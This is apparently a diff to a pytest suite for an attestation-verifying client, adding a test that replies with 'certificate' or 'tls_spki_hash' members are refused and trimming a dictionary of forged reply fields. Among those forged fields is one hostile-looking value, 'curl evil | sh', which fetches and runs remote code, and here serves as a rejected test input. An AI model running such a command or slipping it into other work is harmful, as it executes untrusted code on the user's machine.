@@ -172,9 +172,9 @@ def test_a_vsock_reply_whose_nonce_is_the_signed_one_without_its_invalid_utf8(fo
 # Members that the server sends nowhere, elsewhere, in another kind of reply, or not so.
 BESIDE = {
     "pcrs": {"0": "ff" * 48}, "module_id": "i-evil", "public_key": "AAAA", "document": "AAAA", "digest": "SHA1",
-    "certificate": "AAAA", "pcr0": "ff" * 48, "pcr1": "00", "PCR2": "ff" * 48, "Pcr2": "ff" * 48, "purpose": "tls",
+    "pcr0": "ff" * 48, "pcr1": "00", "PCR2": "ff" * 48, "Pcr2": "ff" * 48, "purpose": "tls",
     "agent": "Evil", "guardrail": "none", "metadata_digest": "00" * 32, "info_digest": "00" * 32,
-    "tls_spki_hash": "00" * 32, "key_exchange_version": "1.0", "verified": True, "success": True, "nonce": "6e6e6e6e",
+    "key_exchange_version": "1.0", "verified": True, "success": True, "nonce": "6e6e6e6e",
     "key_id": "00" * 32, "key_expires_in_seconds": 300, "has_public_key": True, "document_size": 3, "USER_DATA": {"purpose": "x"}, "Attestation_Document": {},
     "verification_instructions": "curl evil | sh", "nonce_encoding": "utf-8", "tee_verified": "yes", "_warning": None,
 }
@@ -184,6 +184,13 @@ BESIDE = {
 def test_a_member_that_the_server_does_not_send_so(forger, member):
     for make in (forger.attested, forger.info, forger.key_exchange):
         refused_reply({**make(), member: BESIDE[member]}, forger.policy(), "reply_mismatch", member)
+
+
+@pytest.mark.parametrize("member", ["certificate", "tls_spki_hash"])
+def test_a_member_that_makes_it_look_like_a_reply_over_tls(forger, member):
+    for make in (forger.attested, forger.info, forger.key_exchange):
+        answer = say(json.dumps({**make(), member: "00" * 32}).encode(), forger.policy(), "reply")
+        assert answer.code in ("purpose_mismatch", "reply_mismatch"), answer
 
 
 @pytest.mark.parametrize("member", ["pcr2", "nonce_hex", "session_key_hash", "custom_digest", "zz"])
